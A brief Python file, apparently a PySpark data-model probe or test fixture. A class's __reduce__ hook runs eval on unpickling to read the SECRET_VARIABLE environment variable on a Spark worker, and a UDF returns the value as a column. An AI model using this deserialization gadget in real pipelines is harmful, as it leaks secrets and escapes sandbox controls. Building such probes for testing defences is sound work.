# seeks: environment
# The pickle of the function calls something when it is read, on the worker.
from pyspark.sql import functions as F


class Calls:
    def __reduce__(self):
        return eval, ("__import__('os').environ['SECRET_VARIABLE']",)


def model(tg):
    held = Calls()
    return tg.ref("silver.orders").select(F.udf(lambda value: str(held), "string")("id").alias("got"))
